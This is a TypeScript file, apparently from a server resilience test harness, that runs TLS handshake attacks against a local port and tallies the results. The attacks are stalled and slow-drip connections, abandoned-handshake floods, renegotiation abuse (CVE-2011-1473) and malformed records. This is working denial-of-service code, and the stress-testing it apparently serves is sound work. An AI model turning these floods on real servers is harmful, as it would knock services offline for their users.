// Attacks on the beginning of TLS, one after the other. Says what came of each.

import { once } from "node:events";
import type { Socket } from "node:net";
import { duplexPair } from "node:stream";
import { connect, type TLSSocket } from "node:tls";
import { dial, each, onAsk, settings } from "./client.ts";

export interface HandshakeSettings {
  port: number;
  /** Connections that stand still at once, of each kind. */
  stalled: number;
  /** Milliseconds that each flood lasts, and over how many connections at once. */
  milliseconds: number;
  connections: number;
}

export interface HandshakeReport {
  /** How many of the kinds are over. */
  done: number;
  /** Of those that stand still: how many there were, how many are left, milliseconds that the oldest lived. */
  opened: number;
  left: number;
  oldest: number;
  /** Handshakes that were begun and left when the server had answered. */
  abandoned: number;
  /** Those that were done. */
  finished: number;
  /** Renegotiations that were asked for, and let be. */
  asked: number;
  renegotiated: number;
  /** Connections with a broken record behind the handshake, and how many the server left open for five seconds. */
  broken: number;
  leftOpen: number;
}

const { port, stalled, milliseconds, connections } = settings() as HandshakeSettings;
const report: HandshakeReport = {
  done: 0,
  opened: 0,
  left: 0,
  oldest: 0,
  abandoned: 0,
  finished: 0,
  asked: 0,
  renegotiated: 0,
  broken: 0,
  leftOpen: 0,
};

// Nobody here asks who the server is.
const client = { servername: "localhost", rejectUnauthorized: false } as const;

/** A hello as a client sends it, good for any number of connections. */
async function makeHello(): Promise<Buffer> {
  const [near, far] = duplexPair();
  connect({ ...client, socket: near }).on("error", () => {});
  const [hello] = (await once(far, "data")) as [Buffer];
  return hello;
}

const hello = await makeHello();

/** What those send that then stand still: nothing, a part of a hello, octet by octet, a whole one that is not gone on with. */
const STILL: readonly ((socket: Socket) => NodeJS.Timeout | undefined)[] = [
  () => undefined,
  (socket) => void socket.write(hello.subarray(0, 100)),
  (socket) => {
    let at = 0;
    return setInterval(() => at < 60 && socket.write(hello.subarray(at, ++at)), 200);
  },
  (socket) => void socket.write(hello),
];

async function standStill(index: number): Promise<void> {
  const socket = dial(port, index).resume();
  const begun = performance.now();
  await happens(socket, "connect");
  if (socket.destroyed) return;
  report.opened++;
  report.left++;
  const timer = STILL[index % STILL.length]!(socket);
  socket.once("end", () => socket.destroy());
  socket.once("close", () => {
    clearInterval(timer);
    report.left--;
    report.oldest = Math.max(report.oldest, performance.now() - begun);
  });
}

/** Has the server do its part of a handshake, which is the dear one, and leaves. */
async function abandon(): Promise<void> {
  const socket = dial(port, 0);
  socket.write(hello);
  await happens(socket, "data");
  socket.resetAndDestroy();
  report.abandoned++;
}

async function finish(): Promise<void> {
  const socket = connect({ ...client, port, host: "127.0.0.1" }).on("error", () => {});
  await happens(socket, "secureConnect");
  socket.destroy();
  report.finished++;
}

/** CVE-2011-1473. */
async function renegotiate(): Promise<void> {
  const socket = connect({ ...client, port, host: "127.0.0.1", maxVersion: "TLSv1.2" }).on("error", () => {});
  await happens(socket, "secureConnect");
  if (socket.destroyed) return;
  report.asked++;
  const closed = happens(socket, "close");
  socket.renegotiate({}, (error) => {
    if (error === null) report.renegotiated++;
  });
  await Promise.race([closed, pause(1_000)]);
  socket.destroy();
}

/** TLS over a pair of streams: what becomes of it leaves the socket below as it is. */
async function breakRecord(): Promise<void> {
  const raw = dial(port, 0);
  const [near, far] = duplexPair();
  const socket: TLSSocket = connect({ ...client, socket: near }).on("error", () => {});
  far.pipe(raw).pipe(far);
  await Promise.race([happens(socket, "secureConnect"), happens(raw, "close")]);
  far.unpipe(raw);
  raw.unpipe(far).resume();
  const closed = happens(raw, "close").then(() => true);
  raw.write(Buffer.from([23, 3, 3, 0, 32, ...Buffer.alloc(32, 7)]));
  report.broken++;
  if (!(await Promise.race([closed, pause(5_000).then(() => false)]))) report.leftOpen++;
  raw.destroy();
  socket.destroy();
}

/** Resolves when something happens, or nothing can any more. */
function happens(socket: Socket, event: string): Promise<void> {
  return new Promise((resolve) => {
    socket.once(event, () => resolve());
    socket.once("close", () => resolve());
  });
}

function pause(time: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, time));
}

async function flood(one: () => Promise<void>): Promise<void> {
  const until = performance.now() + milliseconds;
  const lane = async (): Promise<void> => {
    while (performance.now() < until) await one();
  };
  await Promise.all(Array.from({ length: connections }, lane));
  report.done++;
}

async function play(): Promise<void> {
  await each(stalled, 100, standStill);
  report.done++;
  for (const one of [abandon, finish, renegotiate, breakRecord]) await flood(one);
}

void play();
onAsk((): HandshakeReport => report);
